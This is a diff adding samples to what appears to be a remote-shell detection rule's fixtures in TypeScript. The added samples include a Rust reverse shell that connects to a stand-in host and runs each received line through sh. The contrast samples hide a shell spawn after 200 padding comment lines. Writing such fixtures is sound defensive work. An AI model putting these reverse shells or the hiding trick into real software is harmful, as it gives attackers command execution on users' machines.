@@ -56,6 +56,10 @@ export const remoteShell: SegmentRule = {
         "up.go":
           'package main\nimport ("net"; "os/exec")\nfunc main() {\n  c, _ := net.Dial("tcp", "in.tables.example:443")\n  cmd := exec.Command("/bin/sh")\n  cmd.Stdin, cmd.Stdout = c, c\n  cmd.Run()\n}\n',
       },
+      {
+        "up.rs":
+          'use std::{io::*, net::TcpStream, process::Command};\nfn main() {\n    let link = TcpStream::connect("in.tables.example:443").unwrap();\n    let mut reader = BufReader::new(link);\n    let mut row = String::new();\n    while reader.read_line(&mut row).unwrap() > 0 {\n        Command::new("sh").arg("-c").arg(&row).status().unwrap();\n    }\n}\n',
+      },
       "```bash\nssh -fNR 9022:localhost:22 tables@in.tables.example\n```\n",
       "```bash\nttyd -p 7681 bash\n```\n",
     ],
@@ -73,6 +77,17 @@ export const remoteShell: SegmentRule = {
       {
         "port.go":
           'package main\nfunc main() {\n  l, _ := net.Listen("tcp", ":0")\n  cmd := exec.Command("sh", "rows.sh")\n  cmd.Stdout = os.Stdout\n}\n',
+      },
+      {
+        "open.ts":
+          'import { spawn } from "node:child_process";\nimport net from "node:net";\nconst freePort = () =>\n  new Promise((resolve) => {\n    const server = net.createServer();\n    server.listen(0, "127.0.0.1", () => {\n      const { port } = server.address();\n      server.close(() => resolve(port));\n    });\n  });\nexport async function open(browser: string) {\n  const port = await freePort();\n  const args = [`--remote-debugging-port=${port}`];\n  return spawn(browser, args);\n}\n',
+      },
+      {
+        "open.py":
+          "import socket, subprocess\n\ndef free_port():\n    s = socket.socket()\n    s.bind(('', 0))\n    return s.getsockname()[1]\n\ndef serve(command):\n    words = command + [str(free_port())]\n    return subprocess.Popen(words)\n",
+      },
+      {
+        "find.rs": `fn port() -> u16 {\n    TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port()\n}\n\nfn find(rows: &Lock) -> Option<Output> {\n    let name = rows.read();\n    let n = rows.read();\n    execute_all(&json!({ "rows": n }));\n    Command::new("which").arg(name).output().ok()\n}\n${"\n// Rows are sorted by name.".repeat(200)}\nfn run(rows: i32) {\n    unsafe { libc::dup2(rows, 2) };\n    Command::new("/bin/sh").arg("rows.sh").spawn();\n}\n`,
       },
       "```bash\nssh -L 5432:localhost:5432 db.tables.example\nssh -i key -p 2222 in.tables.example\ntmate -V\n```\n",
       "A terminal can be shared with `tmate`, and `socat` copies between two ports.\n",
